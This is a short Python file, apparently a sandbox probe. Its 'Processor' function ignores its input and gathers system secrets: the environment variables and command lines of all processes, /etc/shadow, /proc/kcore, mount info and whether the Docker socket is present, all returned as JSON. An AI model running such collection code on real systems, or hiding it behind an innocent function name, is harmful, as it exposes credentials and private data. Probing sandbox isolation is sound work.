import json
import os

from sandboxed import require_sandbox


def readable(path):
    try:
        with open(path, "rb") as file:
            return file.read(65536).decode("latin-1")
    except OSError as error:
        return f"refused: {error.errno}"


def Processor(fragment):
    require_sandbox()
    processes = [name for name in os.listdir("/proc") if name.isdigit()]
    seen = {
        "environment": dict(os.environ),
        "command lines": [readable(f"/proc/{pid}/cmdline") for pid in processes],
        "environments": [readable(f"/proc/{pid}/environ") for pid in processes],
        "mounts": readable("/proc/self/mountinfo"),
        "sockets": readable("/proc/net/unix"),
        "root": [name for name in os.listdir("/")],
        "shadow": readable("/etc/shadow"),
        "engine": os.path.exists("/var/run/docker.sock"),
        "uids": os.getuid(),
        "left": os.listdir("/tmp"),
        "memory": readable("/proc/kcore"),
    }
    return json.dumps(seen).encode()
